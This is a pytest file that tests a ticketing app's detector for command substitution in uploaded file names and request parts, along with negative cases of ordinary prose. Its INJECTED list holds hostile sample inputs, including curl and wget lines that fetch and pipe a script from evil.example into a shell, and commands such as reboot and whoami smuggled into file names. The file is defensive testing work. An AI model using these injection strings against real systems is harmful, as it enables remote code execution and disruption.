"""Command substitution (backticks, ``$()``) inside file names and quoted arguments is
command injection in every request part, uploaded file names included; the same
characters in ordinary prose are not."""

from __future__ import annotations

import io

import pytest

from tests.harness.security import events, key, send
from ticketing.security.patterns import PARTS, detect

INJECTED = [
    "report`id`.pdf",
    "invoice_$(whoami).csv",
    "logo.png`ping -c 3 203.0.113.9`",
    "photo-`sleep 7`-2024.jpg",
    'name="$(sleep 10)"',
    "'`reboot`'",
    '--file="data$(wget -qO- http://evil.example/s|sh).txt"',
    '"statement_`cat /etc/hostname`.pdf"',
    "$(curl -s http://evil.example/p.sh | bash)",
    "$(sleep 5)",
]

ORDINARY = [
    "I ran `curl -X POST https://api.platform.example/v1/transfers` and got 401.",
    "`ls -la` shows the file, and `cat` prints it.",
    "use `ls`. Then open the folder",
    "Our job writes report-$(date +%F).csv every night",
    "The upload is called report`final`.pdf by accident",
    "The file `invoice-2024.pdf` is attached",
    'We upload "invoice 2024-05.pdf" with quotes in the name',
    "The CLI has a `whoami` command that prints the partner id",
    "the chargers need `sleep 0` in their console",
    "We select the rows and drop the ones with a zero amount from our table",
    "The title shows the <b> tag itself",
]


@pytest.mark.parametrize("part", PARTS)
def test_substitution_in_names_and_arguments_is_found_in_every_part(part):
    missed = [
        v
        for v in INJECTED
        if "command_injection" not in {str(f.pattern_class) for f in detect(v, part)}
    ]
    assert missed == [], part


@pytest.mark.parametrize("part", PARTS)
def test_prose_naming_shell_commands_sql_and_tags_is_not_a_finding(part):
    found = [(v, [str(f.pattern_class) for f in detect(v, part)]) for v in ORDINARY]
    assert [(v, classes) for v, classes in found if classes] == []


@pytest.fixture(scope="module")
def scanned_app(tmp_path_factory):
    from tests.harness.security_app import build_app
    from ticketing.db import db

    app = build_app(
        f"sqlite:///{tmp_path_factory.mktemp('subst') / 'app.db'}", ratelimits={"enabled": False}
    )
    yield app
    with app.app_context():
        db.engine.dispose()


def _findings(app, before: dict[int, int]) -> set[tuple[str, str, str | None]]:
    changed = [e for e in events(app, type="SUSPICIOUS_PATTERN") if e.count != before.get(e.id, 0)]
    return {(f["class"], f["part"], f["field"]) for e in changed for f in e.details["findings"]}


def test_an_uploaded_file_name_with_backticks_is_recorded(scanned_app):
    client = scanned_app.test_client()
    before = {e.id: e.count for e in events(scanned_app, type="SUSPICIOUS_PATTERN")}
    response = client.post(
        "/api/v1/echo",
        data={"attachment": (io.BytesIO(b"%PDF-1.4"), "statement`id`.pdf")},
        content_type="multipart/form-data",
        headers=key("partner1"),
    )
    assert response.status_code < 500
    assert ("command_injection", "form", "attachment") in _findings(scanned_app, before)

    # and through each other part, as the partner's client would send it
    for part in ("path", "query", "json", "header"):
        before = {e.id: e.count for e in events(scanned_app, type="SUSPICIOUS_PATTERN")}
        assert send(client, part, "invoice_$(whoami).csv").status_code < 500
        assert "command_injection" in {c for c, p, _ in _findings(scanned_app, before) if p == part}

    # an upload whose name merely contains backticks around a word is not
    before = {e.id: e.count for e in events(scanned_app, type="SUSPICIOUS_PATTERN")}
    client.post(
        "/api/v1/echo",
        data={"attachment": (io.BytesIO(b"%PDF-1.4"), "report`final`.pdf")},
        content_type="multipart/form-data",
        headers=key("partner1"),
    )
    assert _findings(scanned_app, before) == set()
